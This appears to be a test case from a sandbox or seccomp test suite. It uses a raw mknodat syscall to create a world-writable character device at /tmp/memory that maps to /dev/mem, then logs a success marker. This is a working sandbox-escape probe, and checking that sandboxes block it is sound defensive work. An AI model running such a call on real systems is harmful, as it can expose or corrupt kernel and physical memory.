# attack: raw | makes a device file | without seccomp: said
import ctypes, os
number = {"x86_64": 259, "aarch64": 33}[os.uname().machine]
ctypes.CDLL(None).syscall(number, -100, b"/tmp/memory", 0o020666, 0x101)
log("PLUNDER-KERNEL")
